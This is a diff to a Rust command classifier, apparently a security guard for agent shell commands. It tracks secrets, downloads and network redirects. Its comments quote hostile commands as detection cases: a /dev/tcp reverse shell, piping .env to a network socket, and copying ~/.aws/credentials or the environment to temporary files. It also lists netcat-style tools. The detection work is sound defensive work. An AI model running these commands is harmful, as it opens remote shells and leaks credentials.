@@ -3,9 +3,11 @@
 //! what its pipe gives it, and hands simple commands to the rules.
 
 use crate::lex::{self, Op, Part, RedirKind, Token, Word};
+use crate::paths::{self, Place, Site};
+use crate::project::{self, Inline};
 use crate::rules::{self, Change, Cmd, Finding, Nested};
 use crate::wrap::{self, INTERPRETERS, Wrapped};
-use crate::{Classification, ShellAction, UNRESOLVED, detect_env, shell_addr};
+use crate::{Classification, ShellAction, UNRESOLVED, detect_env, egress, files, shell_addr};
 use airlock_core::{Risk, Verb};
 use std::collections::{HashMap, HashSet};
 
@@ -21,6 +23,11 @@ pub(crate) struct Taint {
     pub download: bool,
     /// Decoded or unscrambled (`base64 -d`, `xxd -r`, `rev`), i.e. deliberately hidden.
     pub decode: bool,
+    /// Holds secrets: the environment (`env`, `printenv`), a credential file (`.env`,
+    /// `~/.aws/credentials`, `~/.ssh/id_rsa`) or what a CLI prints of its credentials.
+    pub secret: bool,
+    /// Holds a variable named like a secret (`$GITHUB_TOKEN`).
+    pub secret_var: bool,
 }
 
 impl Taint {
@@ -28,6 +35,18 @@ impl Taint {
         Taint {
             download: self.download || other.download,
             decode: self.decode || other.decode,
+            secret: self.secret || other.secret,
+            secret_var: self.secret_var || other.secret_var,
+        }
+    }
+    /// Whether, run as code, it is code nobody has seen (downloaded or decoded).
+    pub fn untrusted(self) -> bool {
+        self.download || self.decode
+    }
+    fn secret() -> Taint {
+        Taint {
+            secret: true,
+            ..Taint::default()
         }
     }
 }
@@ -111,7 +130,7 @@ impl From<&Arg> for Value {
 }
 
 /// What earlier commands on the line set up for later ones.
-#[derive(Debug, Default)]
+#[derive(Debug)]
 pub(crate) struct State {
     pub vars: HashMap<String, Value>,
     pub aliases: HashMap<String, String>,
@@ -120,9 +139,47 @@ pub(crate) struct State {
     pub kube_context: Option<String>,
     /// Shell functions defined so far; their bodies were classified at definition.
     pub functions: HashSet<String>,
+    /// The workspace and the directory relative paths start from.
+    pub site: Site,
+    /// Files downloads saved (`curl -o x.sh`, `wget URL`, `curl … > x.sh`).
+    pub downloads: HashSet<String>,
+    /// Files secrets were written to (`env > /tmp/e`, `cp ~/.aws/credentials /tmp/c`).
+    pub secret_files: HashSet<String>,
 }
 
 impl State {
+    fn new(cwd: Option<&str>) -> State {
+        State {
+            vars: HashMap::new(),
+            aliases: HashMap::new(),
+            cwd: None,
+            tf_workspace: None,
+            kube_context: None,
+            functions: HashSet::new(),
+            site: Site::new(cwd),
+            downloads: HashSet::new(),
+            secret_files: HashSet::new(),
+        }
+    }
+    /// Whether a path holds secrets: a credential file, or one secrets were written to.
+    pub fn is_secret(&self, path: &str) -> bool {
+        paths::is_secret(path) || self.secret_files.contains(&egress::path_key(path))
+    }
+    /// Keeps `PWD` in step with the current directory.
+    fn sync_pwd(&mut self) {
+        let text = self.site.dir_text();
+        self.vars.insert(
+            "PWD".to_string(),
+            Value {
+                text,
+                taint: Taint::default(),
+            },
+        );
+    }
+    /// Where a path argument points.
+    pub fn place(&self, a: &Arg) -> Place {
+        self.site.place(a)
+    }
     /// A variable's text when it is set and known.
     pub fn var(&self, name: &str) -> Option<&str> {
         self.vars.get(name).and_then(|v| v.text.as_deref())
@@ -235,8 +292,10 @@ pub(crate) struct Runner<'o> {
 }
 
 impl<'o> Runner<'o> {
-    pub fn new(out: &'o mut Classification) -> Self {
-        let mut state = State::default();
+    /// A runner for commands run in `cwd` (the workspace); see [`Site::new`].
+    pub fn new(out: &'o mut Classification, cwd: Option<&str>) -> Self {
+        let mut state = State::new(cwd);
+        state.sync_pwd();
         // `rm -rf $HOME` must look like `rm -rf ~`.
         state.vars.insert(
             "HOME".to_string(),
@@ -343,7 +402,7 @@ impl<'o> Runner<'o> {
         ]
         .iter()
         .find_map(|n| self.state.var(n).and_then(detect_env))
-        .or_else(|| self.state.cwd.as_deref().and_then(detect_env))
+        .or_else(|| self.state.cwd.as_deref().and_then(paths::path_env))
     }
 
     fn run_command(&mut self, cmd: &RawCmd, stdin: Stdin, depth: usize) -> Stdin {
@@ -359,8 +418,26 @@ impl<'o> Runner<'o> {
             argv.extend(self.expand(w, depth, true));
         }
         let mut stdin = stdin;
+        let mut outputs = Vec::new();
         for r in &cmd.redirs {
             let target = r.target.as_ref().map(|w| self.expand_one(w, depth));
+            if let Some(t) = target
+                .as_ref()
+                .filter(|t| t.resolved && egress::is_network_path(&t.text))
+            {
+                // `bash -i >& /dev/tcp/host/port 0>&1`, `cat .env > /dev/tcp/…`.
+                let host = egress::network_host(&t.text);
+                let f = Finding::new(
+                    "network-redirect",
+                    Verb::Exec,
+                    Risk::Critical,
+                    "network",
+                    &host,
+                );
+                let seg = format!("{} > {}", segment(&assigns, "", &argv), t.text);
+                self.push(f, seg.trim().to_string());
+                continue;
+            }
             match (r.kind, target) {
                 (RedirKind::HereDoc, _) => {
                     stdin = Stdin::Text(r.body.clone().unwrap_or_default());
@@ -369,7 +446,12 @@ impl<'o> Runner<'o> {
                     stdin = Stdin::Text(t.text + "\n");
                 }
                 (RedirKind::HereString | RedirKind::In, t) => {
-                    stdin = Stdin::Opaque(t.map(|t| t.taint).unwrap_or_default());
+                    let mut taint = t.as_ref().map(|t| t.taint).unwrap_or_default();
+                    let kind = r.kind;
+                    taint.secret |= t.as_ref().is_some_and(|t| {
+                        t.resolved && kind == RedirKind::In && self.state.is_secret(&t.text)
+                    });
+                    stdin = Stdin::Opaque(taint);
                 }
                 (RedirKind::Out | RedirKind::Append, Some(t)) if is_block_device(&t.text) => {
                     let f = Finding::new(
@@ -383,6 +465,15 @@ impl<'o> Runner<'o> {
                     let seg = format!("{} > {}", segment(&assigns, "", &argv), t.text);
                     self.push(f, seg.trim().to_string());
                 }
+                (kind @ (RedirKind::Out | RedirKind::Append), Some(t)) => {
+                    let append = kind == RedirKind::Append;
+                    if let Some(f) = self.write_finding(&t, append) {
+                        let op = if append { ">>" } else { ">" };
+                        let seg = format!("{} {op} {}", segment(&assigns, "", &argv), t.text);
+                        self.push(f, seg.trim().to_string());
+                    }
+                    outputs.push(t);
+                }
                 _ => {}
             }
         }
@@ -392,7 +483,42 @@ impl<'o> Runner<'o> {
             }
             return Stdin::Text(String::new());
         }
-        self.dispatch(argv, assigns, stdin, depth)
+        let out = self.dispatch(argv, assigns, stdin, depth);
+        for t in outputs.iter().filter(|t| t.resolved) {
+            if out.taint().download {
+                self.state.downloads.insert(egress::path_key(&t.text));
+            }
+            if out.taint().secret {
+                self.state.secret_files.insert(egress::path_key(&t.text));
+            }
+        }
+        out
+    }
+
+    /// What writing a command's output to `t` does (`>` when not `append`): nothing worth
+    /// a finding inside the workspace, in scratch space or to `/dev/null`; critical on a
+    /// file that decides who may do what; elsewhere, overwriting destroys what was there.
+    fn write_finding(&self, t: &Arg, append: bool) -> Option<Finding> {
+        if t.resolved && (t.text.starts_with("/dev/") || t.text == "-") {
+            return None;
+        }
+        if t.resolved && paths::is_privileged(&t.text) {
+            let f = files::file_finding(
+                "privileged-file-write",
+                Verb::Update,
+                Risk::Critical,
+                Some(t),
+            );
+            return Some(if append { f } else { f.destructive() });
+        }
+        if self.state.place(t) == Place::Inside || self.state.site.is_scratch(t) {
+            return None;
+        }
+        Some(if append {
+            files::file_finding("file-append", Verb::Update, Risk::Medium, Some(t))
+        } else {
+            files::file_finding("file-overwrite", Verb::Update, Risk::High, Some(t)).destructive()
+        })
     }
 
     /// Expands a word without field splitting (assignment values, redirect targets).
@@ -422,7 +548,7 @@ impl<'o> Runner<'o> {
                     quoted,
                     default,
                 } => {
-                    let v = match (self.state.vars.get(name), default) {
+                    let mut v = match (self.state.vars.get(name), default) {
                         (Some(v), _) => v.clone(),
                         (None, Some(d)) => Value {
                             text: Some(d.clone()),
@@ -433,6 +559,9 @@ impl<'o> Runner<'o> {
                             taint: Taint::default(),
                         },
                     };
+                    if v.text.is_none() && egress::is_secret_var(name.trim_start_matches('{')) {
+                        v.taint.secret_var = true;
+                    }
                     let raw = if name.is_empty() {
                         "$((…))".to_string()
                     } else if name.starts_with('{') {
@@ -503,6 +632,9 @@ impl<'o> Runner<'o> {
         depth: usize,
     ) -> Stdin {
         let mut seen_aliases = HashSet::new();
+        // Set once a tool runner (`npx`, `uv run` …) was peeled off: a program no rule
+        // knows is then the project's own tooling.
+        let mut tool = false;
         for _ in 0..MAX_UNWRAP {
             let Some(first) = argv.first() else {
                 return Stdin::Opaque(stdin.taint());
@@ -511,6 +643,22 @@ impl<'o> Runner<'o> {
                 let f = exec_of(first.taint, UNRESOLVED);
                 self.push(f, segment(&assigns, &first.text, &argv[1..]));
                 return Stdin::Opaque(first.taint.union(stdin.taint()));
+            }
+            if first.text.contains('/')
+                && self
+                    .state
+                    .downloads
+                    .contains(&egress::path_key(&first.text))
+            {
+                let f = exec_of(
+                    Taint {
+                        download: true,
+                        ..Taint::default()
+                    },
+                    basename(&first.text),
+                );
+                self.push(f, segment(&assigns, &first.text, &argv[1..]));
+                return Stdin::Opaque(stdin.taint());
             }
             let name = basename(&first.text).to_string();
             if let Some(alias) = self.state.aliases.get(&name)
@@ -539,10 +687,7 @@ impl<'o> Runner<'o> {
             }
             if matches!(name.as_str(), "for" | "select" | "case") {
                 if let (true, Some(var)) = (name != "case", argv.get(1)) {
-                    let v = Value {
-                        text: None,
-                        taint: Taint::default(),
-                    };
+                    let v = self.loop_value(&argv[2..]);
                     self.state.vars.insert(var.text.clone(), v);
                 }
                 return Stdin::Opaque(stdin.taint());
@@ -582,18 +727,20 @@ impl<'o> Runner<'o> {
                 Some(Wrapped::Script(script)) => {
                     // A script with unknown parts is still read, its unknown parts left
                     // unresolved; only downloaded or decoded text is opaque.
-                    if script.resolved || script.taint == Taint::default() {
+                    if script.resolved || !script.taint.untrusted() {
                         return self.run_script(&script.text, depth + 1, stdin);
                     }
                     self.push(exec_of(script.taint, &name), seg);
                     return Stdin::Opaque(script.taint);
                 }
                 Some(Wrapped::ScriptFile(file)) => {
-                    if file.resolved || file.taint == Taint::default() {
-                        self.out.unknown.push(seg);
-                    } else {
-                        self.push(exec_of(file.taint, &name), seg);
-                    }
+                    let at = argv
+                        .iter()
+                        .skip(1)
+                        .position(|a| *a == file)
+                        .map_or(argv.len(), |i| i + 2);
+                    let rest = argv.get(at..).unwrap_or_default();
+                    self.script_file(&name, &file, rest, seg);
                     return Stdin::Opaque(file.taint);
                 }
                 Some(Wrapped::StdinScript) => {
@@ -602,16 +749,28 @@ impl<'o> Runner<'o> {
                         Stdin::Text(t) if shell => {
                             return self.run_script(&t, depth + 1, Stdin::Terminal);
                         }
-                        Stdin::Opaque(t) if shell || t != Taint::default() => {
-                            let f = exec_of(
-                                Taint {
-                                    download: !t.decode,
-                                    decode: t.decode,
-                                },
-                                &name,
-                            );
-                            self.push(f, seg);
+                        Stdin::Text(t) => {
+                            self.inline_code(&name, &Arg::lit(&t), &Stdin::Terminal, seg);
+                            return Stdin::Opaque(Taint {
+                                secret: project::reads_secrets(&t),
+                                ..Taint::default()
+                            });
+                        }
+                        Stdin::Opaque(t) if t.untrusted() => {
+                            self.push(exec_of(t, &name), seg);
                             return Stdin::Opaque(t);
+                        }
+                        Stdin::Opaque(t) if shell => {
+                            // Commands from a pipe nobody can read: could be anything.
+                            self.push(exec_of(Taint::default(), &name), seg);
+                            return Stdin::Opaque(t);
+                        }
+                        Stdin::Terminal if !shell => {
+                            // An interpreter's prompt, or flags only (`node --test`).
+                            let f =
+                                Finding::new("local-exec", Verb::Exec, Risk::Low, "command", &name);
+                            self.push(f, seg);
+                            return Stdin::Opaque(Taint::default());
                         }
                         other => {
                             self.out.unknown.push(seg);
@@ -619,11 +778,31 @@ impl<'o> Runner<'o> {
                         }
                     }
                 }
+                Some(Wrapped::Inline(code)) => {
+                    self.inline_code(&name, &code, &stdin, seg);
+                    // Code that reads the environment or a credential file may print it.
+                    let mut out = code.taint.union(stdin.taint());
+                    out.secret |= code.resolved && project::reads_secrets(&code.text);
+                    return Stdin::Opaque(out);
+                }
+                Some(Wrapped::Tool(inner)) => {
+                    tool = true;
+                    argv = inner;
+                }
                 Some(Wrapped::Nothing) => {
                     self.push(Finding::read("shell-builtin", "command", &name), seg);
-                    return Stdin::Opaque(stdin.taint());
+                    // `env` alone prints the whole environment.
+                    let out = if name == "env" {
+                        Taint::secret()
+                    } else {
+                        stdin.taint()
+                    };
+                    return Stdin::Opaque(out);
                 }
-                None => return self.run_rules(&name, &argv[1..], &assigns, stdin, depth),
+                None => {
+                    let path = first.text.clone();
+                    return self.run_rules(&name, &path, &argv[1..], &assigns, stdin, depth, tool);
+                }
             }
         }
         let f = exec_of(Taint::default(), UNRESOLVED);
@@ -632,15 +811,122 @@ impl<'o> Runner<'o> {
         Stdin::Opaque(stdin.taint())
     }
 
+    /// The value a loop variable takes: the item that is worst as a path when every item
+    /// is known and none names an environment, otherwise unknown.
+    fn loop_value(&self, rest: &[Arg]) -> Value {
+        let items = match rest.split_first() {
+            Some((kw, items)) if kw.text == "in" => items,
+            _ => &[],
+        };
+        let taint = items.iter().fold(Taint::default(), |t, a| t.union(a.taint));
+        let known = !items.is_empty() && items.iter().all(|a| a.resolved && a.env().is_none());
+        let text = known
+            .then(|| items.iter().max_by_key(|a| self.state.place(a)))
+            .flatten()
+            .map(|a| a.text.clone());
+        Value { text, taint }
+    }
+
+    /// `bash FILE`, `python3 FILE`, `source FILE`: downloaded or decoded code is critical;
+    /// the workspace's own scripts (and, sourced, the home directory's startup files) are
+    /// a local `exec`; anything else is not judged.
+    fn script_file(&mut self, name: &str, file: &Arg, rest: &[Arg], seg: String) {
+        if file.taint.untrusted() {
+            self.push(exec_of(file.taint, name), seg);
+            return;
+        }
+        if !file.resolved {
+            self.out.unknown.push(seg);
+            return;
+        }
+        if self.state.downloads.contains(&egress::path_key(&file.text)) {
+            let f = exec_of(
+                Taint {
+                    download: true,
+                    ..Taint::default()
+                },
+                basename(&file.text),
+            );
+            self.push(f, seg);
+            return;
+        }
+        let sourced_dotfile = matches!(name, "source" | ".") && file.text.starts_with("~/");
+        let local = self.state.place(file) == Place::Inside || sourced_dotfile;
+        match local
+            .then(|| project::local_exec(&file.text, rest))
+            .flatten()
+        {
+            Some(f) => self.push(f, seg),
+            None => self.out.unknown.push(seg),
+        }
+    }
+
+    /// `python3 -c CODE`, `node -e CODE`, code piped into an interpreter.
+    fn inline_code(&mut self, name: &str, code: &Arg, stdin: &Stdin, seg: String) {
+        if code.taint.untrusted() || !code.resolved {
+            self.push(exec_of(code.taint, name), seg);
+            return;
+        }
+        let verdict = project::inline(&code.text);
+        let leaks_stdin = stdin.taint().secret && project::uses_network(&code.text);
+        let f = match verdict {
+            Inline::Exfiltrates => Finding::new(
+                "secret-exfiltration",
+                Verb::Update,
+                Risk::Critical,
+                "network",
+                "inline-code",
+            ),
+            _ if leaks_stdin => Finding::new(
+                "secret-exfiltration",
+                Verb::Update,
+                Risk::Critical,
+                "network",
+                "inline-code",
+            ),
+            Inline::RunsHidden => {
+                Finding::new("opaque-exec", Verb::Exec, Risk::Critical, "command", name)
+            }
+            Inline::Unclear => {
+                self.out.unknown.push(seg);
+                return;
+            }
+            Inline::Plain => Finding::new("local-exec", Verb::Exec, Risk::Low, "command", name),
+        };
+        self.push(f, seg);
+    }
+
+    #[expect(
+        clippy::too_many_arguments,
+        reason = "the runner's view of one simple command"
+    )]
     fn run_rules(
         &mut self,
         name: &str,
+        path: &str,
         args: &[Arg],
         assigns: &[(String, Arg)],
         stdin: Stdin,
         depth: usize,
+        tool: bool,
     ) -> Stdin {
         let seg = segment(assigns, name, args);
+        let secret_path = |p: &str| self.state.is_secret(p);
+        if let Some(f) = egress::check(name, args, &stdin, &secret_path) {
+            self.push(f, seg.clone());
+        }
+        let copies = egress::secret_copies(name, args, &stdin, &|p: &str| self.state.is_secret(p));
+        self.state.secret_files.extend(copies);
+        let saved = egress::downloads(name, args);
+        self.state.downloads.extend(saved);
+        if name == "tee" && stdin.taint().download {
+            for a in args
+                .iter()
+                .filter(|a| a.resolved && !a.text.starts_with('-'))
+            {
+                self.state.downloads.insert(egress::path_key(&a.text));
+            }
+        }
         let cmd = Cmd {
             program: name,
             args,
@@ -648,9 +934,21 @@ impl<'o> Runner<'o> {
             stdin: &stdin,
             state: &self.state,
         };
-        let stdout = stdout_of(name, args, &stdin);
+        let mut stdout = stdout_of(name, args, &stdin, &|p: &str| self.state.is_secret(p));
+        if name == "pwd"
+            && let Some(dir) = self.state.site.dir_text()
+        {
+            stdout = Stdin::Text(format!("{dir}\n"));
+        }
         let Some(outcome) = rules::classify(&cmd) else {
-            self.out.unknown.push(seg);
+            // A program of the workspace (`./run.sh`, `bin/test`) or one a tool runner
+            // runs (`npx jest`) is the project's own.
+            let own =
+                tool || (path.contains('/') && self.state.place(&Arg::lit(path)) == Place::Inside);
+            match own.then(|| project::local_exec(name, args)).flatten() {
+                Some(f) => self.push(f, seg),
+                None => self.out.unknown.push(seg),
+            }
             return stdout;
         };
         for f in outcome.findings {
@@ -658,7 +956,13 @@ impl<'o> Runner<'o> {
         }
         for c in outcome.changes {
             match c {
-                Change::Cwd(d) => self.state.cwd = Some(d),
+                Change::Cwd(d) => {
+                    self.state.site.cd(d.as_deref());
+                    self.state.sync_pwd();
+                    if d.is_some() {
+                        self.state.cwd = d;
+                    }
+                }
                 Change::TfWorkspace(w) => self.state.tf_workspace = Some(w),
                 Change::KubeContext(c) => self.state.kube_context = Some(c),
                 Change::Var(n, v) => {
@@ -667,10 +971,15 @@ impl<'o> Runner<'o> {
                 Change::Alias(n, v) => {
                     self.state.aliases.insert(n, v);
                 }
+                Change::Link { path, target } => self.state.site.link(&path, &target),
             }
         }
         let outer_env = self.out.actions.last().and_then(|a| a.env.clone());
         let before = self.out.actions.len();
+        // What runs on another host or in a pod has no workspace there.
+        let home_site = outcome
+            .remote
+            .then(|| std::mem::replace(&mut self.state.site, Site::elsewhere()));
         for n in outcome.nested {
             match n {
                 Nested::Argv(a) => {
@@ -680,6 +989,9 @@ impl<'o> Runner<'o> {
                     self.run_script(&s, depth + 1, Stdin::Terminal);
                 }
             }
+        }
+        if let Some(site) = home_site {
+            self.state.site = site;
         }
         // What runs on a prod host or pod (`ssh prod-web-1 …`, `kubectl exec -n prod`)
         // runs in prod.
@@ -692,17 +1004,23 @@ impl<'o> Runner<'o> {
     }
 }
 
-/// An `exec` of something unknown: critical when decoded (hidden on purpose), high
-/// when downloaded or merely unresolved.
+/// An `exec` of something unknown: critical when downloaded or decoded (code nobody has
+/// seen), otherwise high risk and destructive, since it could be anything.
 fn exec_of(t: Taint, name: &str) -> Finding {
-    let (rule, risk) = if t.decode {
-        ("opaque-exec", Risk::Critical)
+    if t.decode {
+        Finding::new("opaque-exec", Verb::Exec, Risk::Critical, "command", name)
     } else if t.download {
-        ("pipe-to-shell", Risk::High)
+        Finding::new("pipe-to-shell", Verb::Exec, Risk::Critical, "command", name)
     } else {
-        ("unresolved-program", Risk::High)
-    };
-    Finding::new(rule, Verb::Exec, risk, "command", name)
+        Finding::new(
+            "unresolved-program",
+            Verb::Exec,
+            Risk::High,
+            "command",
+            name,
+        )
+        .destructive()
+    }
 }
 
 /// Whether a path is a disk device, where writing destroys data.
@@ -718,10 +1036,21 @@ pub(crate) fn is_block_device(path: &str) -> bool {
 }
 
 /// What a command writes to stdout, for the next command in its pipe.
-fn stdout_of(name: &str, args: &[Arg], stdin: &Stdin) -> Stdin {
+fn stdout_of(name: &str, args: &[Arg], stdin: &Stdin, is_secret: egress::SecretPath) -> Stdin {
     let all_resolved = args.iter().all(|a| a.resolved);
-    let taint = args.iter().fold(stdin.taint(), |t, a| t.union(a.taint));
+    let mut taint = args.iter().fold(stdin.taint(), |t, a| t.union(a.taint));
+    // What reads a credential file or prints credentials carries them on.
+    taint.secret |=
+        egress::prints_secrets(name, args) || args.iter().any(|a| a.resolved && is_secret(&a.text));
     match name {
+        // `mktemp` prints a fresh name in scratch space.
+        "mktemp"
+            if !args
+                .iter()
+                .any(|a| a.text.starts_with("-p") || a.text.starts_with("--tmpdir")) =>
+        {
+            Stdin::Text("/tmp/tmp.XXXXXXXXXX\n".to_string())
+        }
         "echo" if all_resolved => {
             let words: Vec<&str> = args
                 .iter()
@@ -743,7 +1072,8 @@ fn stdout_of(name: &str, args: &[Arg], stdin: &Stdin) -> Stdin {
         {
             stdin.clone()
         }
-        "curl" | "wget" | "fetch" | "http" | "nc" | "ncat" => Stdin::Opaque(Taint {
+        "curl" | "wget" | "fetch" | "http" | "https" | "xh" | "nc" | "ncat" | "netcat"
+        | "socat" | "telnet" => Stdin::Opaque(Taint {
             download: true,
             ..taint
         }),
@@ -784,7 +1114,7 @@ mod tests {
 
     fn argv(src: &str) -> Vec<Arg> {
         let mut out = Classification::default();
-        let mut r = Runner::new(&mut out);
+        let mut r = Runner::new(&mut out, None);
         let cmds = pipelines(lex::tokenize(src));
         let mut last = Vec::new();
         for p in cmds {
